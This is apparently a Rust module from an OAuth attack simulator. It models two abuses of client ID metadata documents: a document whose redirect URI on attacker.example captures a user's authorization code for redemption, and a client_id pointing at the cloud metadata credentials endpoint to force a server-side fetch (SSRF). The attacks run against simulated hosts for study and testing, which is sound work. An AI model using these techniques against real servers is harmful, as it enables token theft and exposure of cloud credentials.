//! Client ID metadata documents abused (draft-ietf-oauth-client-id-
//! metadata-document): a document whose redirect URI is on another host
//! than its URL (section 8.1), and a client ID URL on a special-use
//! address, which makes the server fetch inside its own network (section
//! 8.6).

use serde_json::json;

use super::{attacker_creates_event, stopped_at_last};
use crate::channel::Channel;
use crate::http::{Request, Url};
use crate::pkce::{CodeVerifier, DEFAULT_LEN, PkceMethod};
use crate::sim::agent::{AgentScenario, TOOLS};
use crate::sim::attacks::Outcome;
use crate::sim::browser::Browser;
use crate::sim::flows::steps::{page_text, sign_in_and_consent};
use crate::sim::hosts::PublishedDocument;
use crate::sim::network::{Network, attacker_browses, navigate};
use crate::sim::trace::{Party, RfcRef};

/// Where the attacker uploads her document, on the agent's own site.
const UPLOADED: &str = "https://agent.example/uploads/mallory.json";
const ATTACKER_CALLBACK: &str = "https://attacker.example/callback";
/// The cloud metadata service: reachable from inside the server's network.
const METADATA_SERVICE: &str =
    "https://169.254.169.254/latest/meta-data/iam/security-credentials/as-role";

const LINK: [RfcRef; 2] = [RfcRef::new(6749, "4.1.1"), RfcRef::new(9700, "4.1")];
const CONSENT: [RfcRef; 1] = [RfcRef::new(6749, "10.2")];
const CODE_TO_ATTACKER: [RfcRef; 1] = [RfcRef::new(9700, "4.1")];
const REDEEM: [RfcRef; 2] = [RfcRef::new(6749, "4.1.3"), RfcRef::new(7636, "4.5")];
const USE: [RfcRef; 1] = [RfcRef::new(6750, "2.1")];
const FORGED_FETCH: [RfcRef; 1] = [RfcRef::new(6890, "2.2.2")];

/// The attacker's document on the agent's site sends the code to her.
pub(super) fn foreign_redirect(scenario: &AgentScenario, network: &mut Network<'_>) -> Outcome {
    let document = json!({
        "client_id": UPLOADED,
        "client_name": "Calendar agent",
        "redirect_uris": [ATTACKER_CALLBACK],
        "grant_types": ["authorization_code"],
        "token_endpoint_auth_method": "none",
    });
    let Ok(uploaded) = Url::parse(UPLOADED) else {
        return stopped_at_last(network, "no upload URL");
    };
    network.add_host(Box::new(PublishedDocument::json(
        uploaded,
        Party::Client,
        document.to_string(),
    )));
    // The attacker's own PKCE pair: she will redeem the code.
    let Ok(verifier) = CodeVerifier::generate(DEFAULT_LEN, &mut *network.rng) else {
        return stopped_at_last(network, "no randomness available");
    };
    let challenge = verifier.challenge(PkceMethod::S256);
    let link = network.server.endpoint("/authorize").with_query(&[
        ("response_type", "code"),
        ("client_id", UPLOADED),
        ("redirect_uri", ATTACKER_CALLBACK),
        ("scope", &scenario.first_tool_scope),
        ("state", "s"),
        ("code_challenge", challenge.as_str()),
        ("code_challenge_method", "S256"),
        ("resource", TOOLS),
    ]);
    let mut browser = Browser::new(Default::default());
    let page = navigate(
        network,
        &mut browser,
        Request::get(link),
        "Alice opens a link from an email: an authorization request whose client_id is the \
         document the attacker uploaded to the agent's site, and whose redirect_uri is hers.",
        &LINK,
    );
    if page.status != 200 {
        let step = network.trace.len() - 1;
        return Outcome::Stopped {
            step,
            error: page_text(&page),
        };
    }
    let approved = "The consent page names \"Calendar agent\" on agent.example, and Alice \
                    approves. The server redirects to the document's redirect URI, on \
                    attacker.example, with the code.";
    let Ok(redirect) = sign_in_and_consent(
        &scenario.user,
        network,
        &mut browser,
        &page,
        approved,
        &CONSENT,
    ) else {
        return stopped_at_last(network, "Alice did not approve");
    };
    let Some(callback) = redirect
        .headers
        .get("Location")
        .and_then(|location| Url::parse(location).ok())
    else {
        return stopped_at_last(network, "no redirect");
    };
    navigate(
        network,
        &mut browser,
        Request::get(callback.clone()),
        "Alice's browser takes the code to the attacker's site.",
        &CODE_TO_ATTACKER,
    );
    let code = callback
        .query_pairs()
        .unwrap_or_default()
        .into_iter()
        .find(|(name, _)| name == "code")
        .map(|(_, code)| code)
        .unwrap_or_default();
    let redeem = Request::post_form(
        network.server.endpoint("/token"),
        &[
            ("grant_type", "authorization_code"),
            ("code", &code),
            ("redirect_uri", ATTACKER_CALLBACK),
            ("client_id", UPLOADED),
            ("code_verifier", verifier.as_str()),
            ("resource", TOOLS),
        ],
    );
    let tokens = network.send(
        Party::Attacker,
        Channel::Back,
        false,
        redeem,
        "The attacker redeems the code as the public client her document describes: the code \
         and her own verifier are all it takes.",
        &REDEEM,
    );
    let body = tokens.json_body().unwrap_or_default();
    let Some(token) = body["access_token"].as_str() else {
        return stopped_at_last(network, "the token request was refused");
    };
    attacker_creates_event(
        network,
        token,
        "With Alice's token for the calendar tools, the attacker calls create_event.",
        &USE,
    )
}

/// A client ID URL on the cloud metadata address.
pub(super) fn ssrf(network: &mut Network<'_>) -> Outcome {
    let credentials = json!({
        "Code": "Success",
        "AccessKeyId": "ASIA-SIMULATED-KEY",
        "SecretAccessKey": "simulated-secret",
    });
    let Ok(service) = Url::parse(METADATA_SERVICE) else {
        return stopped_at_last(network, "no metadata service URL");
    };
    network.add_host(Box::new(PublishedDocument::json(
        service,
        Party::ThirdParty,
        credentials.to_string(),
    )));
    let request = network.server.endpoint("/authorize").with_query(&[
        ("response_type", "code"),
        ("client_id", METADATA_SERVICE),
        ("redirect_uri", ATTACKER_CALLBACK),
        ("state", "s"),
    ]);
    let mut own_browser = Browser::new(Default::default());
    let page = attacker_browses(
        network,
        &mut own_browser,
        Request::get(request),
        "The attacker sends an authorization request whose client_id is the cloud metadata \
         address, which answers only from inside the server's network.",
        &FORGED_FETCH,
    );
    let fetched = network.trace.iter().position(|exchange| {
        exchange.from == Party::AuthorizationServer
            && exchange.request.url.to_string() == METADATA_SERVICE
    });
    match fetched {
        Some(step) => Outcome::Succeeded {
            step,
            gained: format!(
                "The authorization server sent GET {METADATA_SERVICE} from inside its own \
                 network, a request the attacker chose, and got {} with the instance's \
                 credentials. It then refused the document, but the request had already run: \
                 against an internal service that acts on a GET, that is the whole attack",
                network.trace[step].response.status
            ),
        },
        None => Outcome::Stopped {
            step: network.trace.len() - 1,
            error: page_text(&page),
        },
    }
}
